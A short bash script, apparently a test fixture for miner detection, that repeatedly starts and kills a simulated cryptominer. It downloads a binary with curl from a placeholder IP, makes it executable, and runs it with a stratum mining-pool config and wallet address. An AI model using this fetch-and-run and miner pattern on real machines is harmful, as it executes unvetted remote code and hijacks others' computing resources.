#!/bin/bash
# What the story restarted-miner fetches: starts a simulated miner twelve times and kills it after two or three seconds.
cd "$(dirname "$0")"
curl -fsS -o pulsed http://203.0.113.10/agent
chmod 755 pulsed
echo "-o stratum+tcp://203.0.113.20:3333 -u 47aTbqZ5cYTnhEKkTmwWdT7ZTRUKJmLXnHDyfmYJ2pQd9ML9w2CyCw8YsVeLVyYpEvFzuyhJaq2FsfDP1hU6qMTu6xVTYkc -s 40" >pulsed.conf
for start in 2.0 2.7 2.4 2.9 2.1 2.6 2.3 2.8 2.2 2.5 2.9 2.0; do
    ./pulsed -c pulsed.conf &
    sleep "$start"
    kill -9 $!
    wait $! 2>/dev/null
    sleep 0.4
done
